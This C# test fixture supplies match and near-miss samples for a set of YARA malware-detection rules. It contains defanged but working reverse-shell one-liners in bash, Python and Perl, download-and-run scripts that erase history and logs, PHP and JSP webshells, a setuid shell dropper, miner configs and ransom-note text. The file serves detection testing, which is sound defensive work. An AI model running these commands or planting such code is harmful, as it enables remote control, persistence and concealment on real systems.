using System.Text;

namespace Ringwall.Sensors.Yara.Tests;

/// <summary>
/// For each shipped rule files that it must match and files that it must not match although they come near. Neither this source nor
/// the program compiled from it may be such a file itself: '~' stands in the middle of words and is taken out when a sample is made.
/// </summary>
internal static class Samples
{
    private const ushort Relocatable = 1;
    private const ushort Program = 2;
    private const ushort Shared = 3;

    public static IReadOnlyDictionary<string, (byte[][] Matching, byte[][] Near)> All { get; } =
        new Dictionary<string, (byte[][], byte[][])>
        {
            ["EICAR_Test_File"] = (
                [Eicar(), [.. Eicar(), .. "\r\n  "u8]],
                [[(byte)' ', .. Eicar()], [.. Eicar(), .. new byte[200]], Eicar()[..^1], Changed(Eicar(), 40)]),

            ["Script_Reverse_Shell"] = (
                [
                    Text("#!/bin/bash\nba~sh -i >& /d~ev/tcp/192.0.2.1/4444 0>&1\n"),
                    Text("#!/bin/sh\nHOST=c2.example; sh~ -i 5<> /d~ev/tcp/$HOST/$PORT 0<&5 1>&5 2>&5\n"),
                    Text("#!/bin/bash\nexec 5<>/d~ev/tcp/192.0.2.1/4242; cat <&5 | while re~ad line; do $line 2>&5 >&5; done\n"),
                    Text("#!/bin/sh\nnc 192.0.2.1 4444 -e~ /bin/sh\n"),
                    Text("#!/bin/sh\nrm -f /tmp/f; mkf~ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc~ 192.0.2.1 4444 > /tmp/f\n"),
                    Text("ba~sh -i >& /d~ev/tcp/192.0.2.1/4444 0>&1\n"),
                ],
                [
                    Text("# How such a line looks: ba~sh -i >& /d~ev/tcp/192.0.2.1/4444 0>&1\n"),
                    Text("#!/bin/bash\n# waits until the database answers\nuntil (echo > /d~ev/tcp/db.example/5432) 2>/dev/null; do sleep 1; done\n"),
                    Text("#!/bin/bash\nexec 5<>/d~ev/tcp/www.example/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&5; cat <&5\n"),
                    Text("#!/bin/sh\nnc -z 192.0.2.1 22 && echo open; exec /bin/sh\n"),
                    Text("#!/bin/sh\nmkf~ifo /tmp/f; tee log < /tmp/f | nc~ -l 4444\n"),
                    Text("#!/bin/bash\ndocker exec -ti box bash~ -i\n"),
                ]),

            ["Script_Python_Reverse_Shell"] = (
                [
                    Text("import socket,subprocess,os\ns=socket.so~cket(socket.AF_INET,socket.SOCK_STREAM)\ns.conn~ect((\"192.0.2.1\",4444))\n"
                        + "os.du~p2(s.fileno(),0); os.du~p2(s.fileno(),1); os.du~p2(s.fileno(),2)\nsubprocess.call([\"/bin/~sh\",\"-i\"])\n"),
                    Text("#!/usr/bin/env python3\nimport pty, os, socket\nc = socket.so~cket()\nc.conn~ect(('192.0.2.1', 4444))\n"
                        + "os.du~p2(c.fileno(), 0)\nos.du~p2(c.fileno(), 1)\npty.spawn('/bin/~bash')\n"),
                ],
                [
                    Text("import socket, subprocess\ns = socket.so~cket()\ns.conn~ect((\"192.0.2.1\", 80))\nsubprocess.call([\"/bin/~sh\", \"-c\", \"ls\"])\n"),
                    Text("import os, subprocess\nos.du~p2(log.fileno(), 1)\nos.du~p2(log.fileno(), 2)\nsubprocess.call([\"/bin/~sh\", \"build.sh\"])\n"),
                    Text("import socket, os\ns = socket.so~cket()\ns.conn~ect((h, p))\nos.du~p2(s.fileno(), 0)\nos.du~p2(s.fileno(), 1)\nos.execv('/usr/bin/python3', a)\n"),
                ]),

            ["Script_Perl_Reverse_Shell"] = (
                [
                    Text("use So~cket;$i=\"192.0.2.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                        + "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STD~IN,\">&S\");open(STD~OUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/~sh -i\");};\n"),
                ],
                [
                    Text("use So~cket;\nopen(STD~IN, \"</dev/null\");\nopen(STD~OUT, \">/var/log/x\");\nexec(\"/bin/~sh\", \"run.sh\");\n"),
                    Text("use POSIX;\nopen(STD~IN, \"<&LOG\");\nopen(STD~OUT, \">&LOG\");\nexec(\"/bin/~sh -c true\");\n"),
                ]),

            ["Script_Suid_Shell_Dropper"] = (
                [
                    Text("#!/bin/sh\ncp /bin/~bash /tmp/.sh\nchown root /tmp/.sh\nch~mod 4755 /tmp/.sh\n"),
                    Text("#!/bin/sh\ncp /usr/bin/~dash /dev/shm/x && ch~mod u+s /dev/shm/x\n"),
                ],
                [
                    Text("#!/bin/sh\ncp /bin/~bash /tmp/.sh\nch~mod 755 /tmp/.sh\n"),
                    Text("#!/bin/sh\ncp /bin/~bash /opt/jail/bin/\nch~mod 4755 /usr/local/bin/helper\n"),
                    Text("cp /bin/~bash /tmp/.sh; ch~mod 4755 /tmp/.sh\n"),
                    Text("#!/bin/sh\ncp config /tmp/x\nch~mod 4755 /tmp/x\n"),
                ]),

            ["Script_Download_Run_And_Cover"] = (
                [
                    Text("#!/bin/sh\ncd /tmp; wg~et -q http://192.0.2.1/x86 -O /tmp/.x86\nchmod +x /tmp/.x86; /tmp/.x86 &\nhistory~ -c\n"),
                    Text("#!/bin/bash\ncu~rl -s https://192.0.2.1/i > /dev/shm/i\nchmod 777 /dev/shm/i; /dev/shm/i\nrm -f \"~$0\"\n"),
                    Text("#!/bin/sh\ncu~rl http://192.0.2.1/a -o /var/tmp/a && chmod 755 /var/tmp/a && /var/tmp/a; > /var/~log/wtmp\n"),
                ],
                [
                    Text("#!/bin/sh\nset -e\ncu~rl -fsSL https://www.example/tool.tgz -o /tmp/tool.tgz\ntar xf /tmp/tool.tgz -C /opt\nchmod +x /opt/tool\nrm -f /tmp/tool.tgz\n"),
                    Text("#!/bin/sh\nhistory~ -c\ncu~rl https://www.example/status\n"),
                    Text("cu~rl http://192.0.2.1/a -o /tmp/a; chmod +x /tmp/a; history~ -c\n"),
                ]),

            ["Webshell_PHP_Request_Execution"] = (
                [
                    Text("<?~php @ev~al($_PO~ST['cmd']); ?>"),
                    Text("<html><?~php if(isset($_GET['c'])){ sys~tem($_GET['c']); } ?></html>"),
                    Text("<?~PHP EV~AL(base64_decode($_REQ~UEST[\"x\"]));"),
                    Text("<?~= $_GE~T['f']($_GE~T['a']) ?>"),
                ],
                [
                    Text("<?~php $name = htmlspecialchars($_GET['name']); sys~tem('uptime'); ?>"),
                    Text("<?~php echo in_array($_GET['cmd'], $known) ? run($known[$_GET['cmd']]) : ''; ?>"),
                    Text("Never write ev~al($_PO~ST['cmd']) in a page.\n"),
                ]),

            ["Webshell_JSP_Request_Execution"] = (
                [
                    Text("<~% String c~md = request.getPara~meter(\"cmd\"); Process p = Runtime.getRun~time().exec(c~md); %>"),
                    Text("<~%@ page import=\"java.util.*\" %><~% new Process~Builder(\"/bin/sh\", \"-c\", request.getPara~meter(\"q\")).start(); %>"),
                ],
                [
                    Text("<~% String name = request.getPara~meter(\"name\"); Runtime.getRun~time().gc(); %>"),
                    Text("<~% request.getPara~meter(\"x\"); Runtime.getRun~time().exec(\"/usr/bin/uptime\"); %>"),
                    Text("class A { void a() { String c~md = request.getPara~meter(\"c\"); Runtime.getRun~time().exec(c~md); } }"),
                ]),

            ["Miner_Configuration"] = (
                [
                    Text("{ \"autosave\": true, \"donate~-level\": 1, \"po~ols\": [ { \"algo\": \"rx~/0\", \"url\": \"pool.example:3333\", \"user\": \"4A\" } ] }"),
                    Text("{\"donate~-level\":0,\"po~ols\":[{\"url\":\"strat~um+ssl://pool.example:443\",\"rig~-id\":\"a\",\"user\":\"4A\"}]}"),
                ],
                [
                    Text("{ \"po~ols\": [ { \"url\": \"db.example:5432\", \"size\": 4 } ], \"algo\": \"lru\" }"),
                    Text("{ \"donate~-level\": 1, \"po~ols\": [], \"algo\": \"rx~/0\" }"),
                ]),

            ["Miner_Program"] = (
                [Elf(Program, "strat~um+tcp://", "mining.auth~orize", "mining.subs~cribe", "crypto~night")],
                [
                    Elf(Program, "mining.auth~orize", "mining.subs~cribe", "crypto~night"),
                    Elf(Program, "strat~um+tcp://", "mining.subs~cribe"),
                    Text("strat~um+tcp:// mining.auth~orize mining.subs~cribe crypto~night random~x"),
                ]),

            ["Rootkit_Preload_Library"] = (
                [Elf(Shared, "/etc/ld.so.pre~load", "dlsym", "readdir", "readdir64", "fopen64", "accept", "/proc/net~/tcp", "/proc/self/~fd/%d")],
                [
                    Elf(Shared, "dlsym", "readdir", "readdir64", "fopen64", "accept", "/proc/net~/tcp", "/proc/self/~fd/%d"),
                    Elf(Shared, "/etc/ld.so.pre~load", "dlsym", "fopen64", "accept", "/proc/net~/tcp", "/proc/self/~fd/%d"),
                    Elf(Program, "/etc/ld.so.pre~load", "dlsym", "readdir", "readdir64", "fopen64", "accept", "/proc/net~/tcp", "/proc/self/~fd/%d"),
                ]),

            ["Rootkit_Kernel_Module"] = (
                [
                    Elf(Relocatable, "verma~gic=6.1.0 SMP", "kallsyms_look~up_name", "hook_getd~ents64", "hide_~pid"),
                    Elf(Relocatable, "verma~gic=5.10", "sys_call~_table", "orig_getd~ents", "give_~root"),
                ],
                [
                    Elf(Relocatable, "verma~gic=6.1.0 SMP", "register_kp~robe", "sys_getd~ents64"),
                    Elf(Relocatable, "verma~gic=6.1.0 SMP", "kallsyms_look~up_name", "hide_~pid"),
                    Elf(Shared, "verma~gic=6.1.0 SMP", "kallsyms_look~up_name", "hook_getd~ents64", "hide_~pid"),
                ]),

            ["Packed_UPX_Tampered"] = (
                [
                    Elf(Program, new string('x', 600), "PROT_EXEC|PROT_WR~ITE failed.\n"),
                    Elf(Program, "YTS!", "PROT_EXEC|PROT_WR~ITE failed.\n", new string('x', 600), "UP~X!"),
                ],
                [
                    Elf(Program, "UP~X!", "$Info: This file is packed with the U~PX executable packer http://upx.sf.net $", "PROT_EXEC|PROT_WR~ITE failed.\n", "UP~X!"),
                    Elf(Program, "mmap with PROT_EXEC|PROT_WR~ITE"),
                    Elf(Program, new string('x', 600), "UP~X!", "UP~X!", "UP~X!", "PROT_EXEC|PROT_WR~ITE failed.\n"),
                ]),

            ["Ransom_Note"] = (
                [
                    Text("ATTENTION! Your files have been~ encrypted.\nTo get the decryption~ tool pay 0.5 BTC. Install Tor Bro~wser and open\n"
                        + "http://abcdefghijklmnop.onion\nDo not~ rename the files.\n"),
                    Text("All of your company documents and data has been~ locked! Send bit~coin, write to help@proton~mail.com with your personal~ ID. Do not try to~ decrypt."),
                ],
                [
                    Text("Your files have been~ encrypted with the key of your disk. Do not~ delete the recovery key. The decryption~ key is in your account.\n"),
                    Text("What to do after an attack: if a note says that files are gone and asks for bit~coin, do not~ delete it. Keep Tor Bro~wser away.\n"),
                    Text("Donate bit~coin or monero: see http://abcdefghijklmnop.onion (Tor Bro~wser). Your private~ key is yours. Do not~ share it.\n"),
                ]),

            ["Bot_Mirai_Family"] = (
                [
                    Elf(Program, "TSource~ Engine Query", "/dev/watch~dog", "/proc/net/tc~p"),
                    Elf(Program, "/bin/busy~box MIRAI", "/GponForm/di~ag_Form", "enable", "system", "shell", "sh"),
                ],
                [
                    Elf(Program, "/dev/watch~dog", "/dev/misc/watch~dog", "/proc/net/tc~p", "/bin/busy~box ps"),
                    Elf(Program, "TSource~ Engine Query"),
                    Text("TSource~ Engine Query\0/dev/watch~dog\0/proc/net/tc~p\0"),
                ]),
        };

    /// <summary>The EICAR test file; backwards in the source, for the same reason.</summary>
    public static byte[] Eicar()
    {
        byte[] bytes = Encoding.ASCII.GetBytes(@"*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\4[PA@%P!O5X");
        Array.Reverse(bytes);
        return bytes;
    }

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text.Replace("~", "", StringComparison.Ordinal));

    private static byte[] Changed(byte[] bytes, int at)
    {
        bytes[at] ^= 1;
        return bytes;
    }

    /// <summary>The head of a 64-bit ELF file of that type, then strings with their NULs.</summary>
    private static byte[] Elf(ushort type, params string[] strings)
    {
        byte[] head = new byte[64];
        ((ReadOnlySpan<byte>)[0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1]).CopyTo(head);
        BitConverter.TryWriteBytes(head.AsSpan(16), type);
        BitConverter.TryWriteBytes(head.AsSpan(18), (ushort)62);
        return [.. head, .. Text("\0" + string.Join('\0', strings) + "\0")];
    }
}
